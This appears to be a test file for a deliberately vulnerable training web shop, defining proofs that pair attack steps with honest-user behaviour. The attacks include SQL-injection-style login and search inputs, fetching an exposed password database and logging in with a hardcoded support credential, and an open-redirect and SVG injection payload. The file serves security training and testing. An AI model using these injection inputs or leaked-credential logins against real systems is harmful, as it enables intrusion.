import { logInAs, logsIn } from '../features/accounts.js'
import { readsGerman, seesPictures, visit } from '../features/pages.js'
import { report } from '../features/reports.js'
import { sendsInvoice, upload } from '../features/uploads.js'
import { proof } from '../proof.js'

export const deprecatedInterfaceChallenge = proof({ attack: upload('order.xml', '<a/>'), honest: sendsInvoice })

export const errorHandlingChallenge = proof({
  attack: visit('/rest/qwertz'),
  otherAttacks: [
    (me) => me.post('/rest/user/login', { email: "'", password: 'x' }),
    (me) => me.post('/rest/user/login', '{'),
    visit("/rest/products/search?q=';"),
    visit('/api/Users'),
    visit('/api/Challenges?scope=x'),
  ],
  honest: readsGerman,
})

export const loginSupportChallenge = proof({
  async attack(me) {
    await me.get('/ftp/incident-support.kdbx')
    await logInAs('support@juice-sh.op', 'J6aVjTgOpRs@?5l!Zkq2AYnCE@RF$P')(me)
  },
  honest: logsIn,
})

const cats = '../../../redirect?to=https://cataas.com/cat?x=https://github.com/juice-shop/juice-shop'

export const svgInjectionChallenge = proof({
  async attack(me) {
    await me.get(`/deluxe-membership?testDecal=${encodeURIComponent(cats)}`)
    await report(me, 'verifySvgInjectionChallenge', cats)
  },
  browserStep: 'report',
  honest: seesPictures,
})
